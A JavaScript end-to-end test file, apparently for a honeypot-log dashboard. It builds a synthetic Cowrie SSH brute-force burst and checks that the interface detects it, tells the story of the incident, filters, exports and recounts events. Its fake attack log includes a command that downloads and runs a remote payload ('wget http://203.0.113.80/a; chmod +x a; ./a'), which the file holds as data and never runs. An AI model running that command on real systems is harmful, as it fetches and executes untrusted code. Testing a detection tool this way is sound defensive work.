// A story on the real program: a burst arrives, is noticed, opened, understood, its address followed, narrowed by a filter, exported and shared; once with
// keys at a desk, once on a phone. Every number is counted again from the logs themselves, by `normalize`.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { OUT, axe, check, clean, openPage, same, skip, test, text, until } from './harness.mjs';
import { MAX_BUFFER, logs, send, serve } from './program.mjs';
import { ready } from './state_page.mjs';

const ROWS = '20000';
const SEED = String(Number(process.env.HG_SEED ?? 7) % 100000);
const ATTACKER = '198.51.100.7';
const SESSION = 'a1b94c7702de';
const BUDGET = ['--false-alarm-rate', '0.003'];
const PASSWORDS = 60;
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'cd /tmp; wget http://203.0.113.80/a; chmod +x a; ./a'];

// Sixty guesses within nine minutes, then root, three commands and a file.
function writeBurst(file, from) {
  const at = (seconds) => new Date(from + seconds * 1000).toISOString().replace('Z', '000Z');
  const common = { src_ip: ATTACKER, session: SESSION, sensor: '5d0e1c2a9b47', protocol: 'ssh' };
  const lines = [
    { eventid: 'cowrie.session.connect', src_port: 51544, dst_ip: '192.0.2.10', dst_port: 22, message: 'New connection', ...common, timestamp: at(0) },
    { eventid: 'cowrie.client.version', version: 'SSH-2.0-Go', message: 'Remote SSH version', ...common, timestamp: at(1) },
    ...[...Array(PASSWORDS).keys()].map((n) => ({ eventid: 'cowrie.login.failed', username: 'root', password: `guess-${n}`, message: 'login attempt failed', ...common, timestamp: at(2 + n * 9) })),
    { eventid: 'cowrie.login.success', username: 'root', password: 'P@ssw0rd', message: 'login attempt succeeded', ...common, timestamp: at(543) },
    ...COMMANDS.map((input, n) => ({ eventid: 'cowrie.command.input', input, message: `CMD: ${input}`, ...common, timestamp: at(545 + n) })),
    { eventid: 'cowrie.session.file_download', url: 'http://203.0.113.80/a', outfile: 'var/lib/cowrie/downloads/a', shasum: '9f2c41e0'.repeat(8), message: 'Downloaded', ...common, timestamp: at(549) },
    { eventid: 'cowrie.session.closed', duration: '550.0', message: 'Connection lost', ...common, timestamp: at(550) },
  ];
  writeFileSync(file, lines.map((line) => JSON.stringify(line)).join('\n') + '\n');
}

function prepare(binary, work) {
  const run = (...parameters) => execFileSync(binary, parameters, { maxBuffer: MAX_BUFFER, stdio: ['ignore', 'pipe', 'pipe'], encoding: 'utf8' });
  const show = path.join(work, 'show');
  run('generate', '--out', path.join(work, 'train'), '--rows', ROWS, '--seed', SEED);
  run('generate', '--out', show, '--rows', ROWS, '--seed', String(Number(SEED) + 1));
  run('train', '--model', path.join(work, 'model'), '--seed', '1', ...logs(path.join(work, 'train')));
  const calm = run('normalize', ...logs(show)).trimEnd().split('\n').map((line) => JSON.parse(line));
  const last = Math.max(...calm.map((event) => Date.parse(event.event_time)));
  const burst = path.join(work, 'burst.json');
  writeBurst(burst, last + 60_000);
  const own = run('normalize', burst).trimEnd().split('\n').map((line) => JSON.parse(line));
  return { files: logs(show), burst, model: path.join(work, 'model'), events: [...calm, ...own] };
}

const number = (words) => Number(words.replace(/[^0-9]/g, ''));
const answerOf = (page, id) => text(page, `#${id} .answer`);
const rowsShown = async (page) => number(/of ([\d,]+)/.exec(await answerOf(page, 'events'))?.[1] ?? '0');

// What the page's range holds of the events that were sent.
async function within(url, page, holds, events) {
  const parameters = new URL(page.url()).searchParams;
  const query = new URLSearchParams([...parameters].filter(([name]) => ['window', 'from', 'to'].includes(name)));
  const { range } = await (await fetch(`${url}/api/v1/summary?${query}`)).json();
  return events.filter((event) => Date.parse(event.event_time) >= Date.parse(range.from) && Date.parse(event.event_time) < Date.parse(range.to) && holds(event));
}

async function picture(page, name) {
  await page.mouse.move(0, 0);
  await page.screenshot({ path: path.join(OUT, `tour-${name}.png`) });
}

async function understood(page, sample, url, keys) {
  if (keys) {
    await page.keyboard.press('g');
    await page.keyboard.press('i');
  } else await page.click('.nav >> text=Incidents');
  const item = page.locator('.items > li', { hasText: ATTACKER });
  await item.waitFor();
  const story = await item.locator('.story').innerText();
  for (const words of [`${PASSWORDS + 1} passwords`, 'root', `${COMMANDS.length} commands`, '1 file']) check(story.includes(words), `“${words}” is not in: ${story}`);
  await item.locator('.story a').focus();
  await page.keyboard.press(keys ? 'o' : 'Enter');
  await page.waitForSelector('#incident .alert-lines li');
  await picture(page, `incident-${keys ? 1440 : 390}`);
  await page.locator('#incident .val a').click();
  await page.waitForSelector('#known .tiles');
  const own = await within(url, page, (event) => event.source_ip === ATTACKER || event.destination_ip === ATTACKER, sample.events);
  await until('the address’s events', async () => number(await text(page, '#known .tile:first-child .fig')) === own.length);
  const told = (await page.locator('#transcript > li .who-did').allInnerTexts()).map((one) => one.replace('(decisive)', '').trim());
  same(told.join(', '), `connected, client, ${PASSWORDS} failed, let in, typed, typed, typed, fetched, left`, 'the session as it happened');
  same((await axe(page)).join('\n'), '', 'axe');
  await picture(page, `address-${keys ? 1440 : 390}`);
}

async function narrowed(browser, page, sample, url, keys) {
  const filter = `src:${ATTACKER} user:root -kind:login.success`;
  if (keys) await page.keyboard.press('g');
  if (keys) await page.keyboard.press('e');
  else await page.click('.nav >> text=Events');
  await page.waitForSelector('.rows');
  await page.focus('#filter');
  await page.fill('#filter', filter);
  await page.keyboard.press('Enter');
  await until('the filter', async () => new URL(page.url()).searchParams.get('filter') === filter);
  await until('the guesses', async () => (await rowsShown(page)) === PASSWORDS);
  await picture(page, `events-${keys ? 1440 : 390}`);
  const lines = (await (await fetch(new URL(await page.locator('.export a').last().getAttribute('href'), url))).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
  const wanted = sample.events.filter((event) => event.source_ip === ATTACKER && event.attributes.eventid === 'cowrie.login.failed').map((event) => event.event_id).sort();
  same(JSON.stringify(lines.map((line) => line.event_id).sort()), JSON.stringify(wanted), 'the exported events');
  const csv = (await (await fetch(new URL(await page.getAttribute('#export', 'href'), url))).text()).trimEnd().split('\n');
  same(csv.length, PASSWORDS + 1, 'lines of CSV with its head');
  const colleague = await openPage(browser, {});
  await colleague.page.goto(page.url());
  await ready(colleague.page);
  await until('a colleague sees the same', async () => (await rowsShown(colleague.page)) === PASSWORDS);
  clean(colleague.faults);
  await colleague.close();
}

async function opened(page, keys) {
  if (keys) {
    await page.keyboard.press('j');
    await page.keyboard.press('o');
  } else await page.click('.rows a[data-row]');
  await page.waitForSelector('#fields');
  check((await text(page, 'pre.raw')).includes('"password":"guess-'), 'the record as it was');
  check(/^Not measured by Cowrie: /.test(await text(page, '#missing')), await text(page, '#missing'));
  same(await page.locator('#around li').count() > 1, true, 'what came before or after');
  same((await axe(page)).join('\n'), '', 'axe');
  await picture(page, `event-${keys ? 1440 : 390}`);
}

// Cowrie has one user name a record, Dionaea a list.
const usersOf = ({ attributes }) => [attributes.username, ...(attributes.credentials?.username ?? [])].map((name) => name?.toLowerCase());

// Filters of several kinds, each counted again.
async function recounted(browser, url, sample) {
  const CASES = [
    ['port:22', (event) => event.destination_port === 22], ['type:scan', (event) => event.attack_type === 'scan'], ['dataset:suricata -proto:udp', (event) => event.dataset === 'suricata' && event.protocol !== 'udp'],
    [`ip:${ATTACKER} or user:admin`, (event) => event.source_ip === ATTACKER || event.destination_ip === ATTACKER || usersOf(event).includes('admin')],
  ];
  for (const [filter, holds] of CASES)
    await test(`numbers of “${filter}” are those of a recount`, async () => {
      const { page, faults, close } = await openPage(browser);
      await page.goto(`${url}/?view=events&window=24h&filter=${encodeURIComponent(filter)}`);
      await ready(page);
      const wanted = await within(url, page, holds, sample.events);
      await until('the exact count', async () => /of [\d,]+,/.test(await answerOf(page, 'events')) || /No row/.test(await answerOf(page, 'events')));
      same(await rowsShown(page), wanted.length, filter);
      clean(faults);
      await close();
    });
}

export async function deskReal(browser, binary) {
  console.log(`# desk, seed ${SEED}`);
  const work = mkdtempSync(path.join(tmpdir(), 'hg-desk-'));
  let server = null;
  try {
    const sample = prepare(path.resolve(binary), work);
    server = await serve(path.resolve(binary), work, sample.model, BUDGET);
    const { url } = server;
    if ((await fetch(`${url}/api/v1/incidents`)).status === 404) return skip('the desk on the real program', 'this server knows of no incidents');
    send(binary, url, sample.files);
    const pages = [];
    for (const width of [1440, 390]) pages.push(await openPage(browser, { width, height: width > 900 ? 900 : 844 }));
    await test('a burst arrives and is noticed on the page that is open, without a reload', async () => {
      for (const { page } of pages) {
        await page.goto(`${url}/?window=1h`);
        await ready(page);
        same(await page.locator('.alerts tbody tr', { hasText: ATTACKER }).count(), 0, 'before');
      }
      send(binary, url, [sample.burst]);
      for (const { page } of pages) await until('its alert', async () => (await page.locator('.alerts tbody tr', { hasText: ATTACKER }).count()) > 0, 20_000);
      await picture(pages[0].page, 'noticed-1440');
      await picture(pages[1].page, 'noticed-390');
    });
    for (const [i, where] of ['at a desk, by keys', 'on a phone'].entries()) {
      const { page, faults } = pages[i];
      await test(`${where}: its incident is opened and understood, the address followed`, () => understood(page, sample, url, i === 0));
      await test(`${where}: narrowed by a filter, exported, and the link shows a colleague the same`, () => narrowed(browser, page, sample, url, i === 0));
      await test(`${where}: the event is read as it was`, async () => {
        await opened(page, i === 0);
        clean(faults);
      });
    }
    await recounted(browser, url, sample);
    for (const { close } of pages) await close();
  } catch (error) {
    await test('the desk on the real program', () => Promise.reject(error));
  } finally {
    if (server !== null) {
      const ended = new Promise((resolve) => server.child.on('exit', resolve));
      server.child.kill('SIGTERM');
      await ended;
    }
    rmSync(work, { recursive: true, force: true });
  }
}
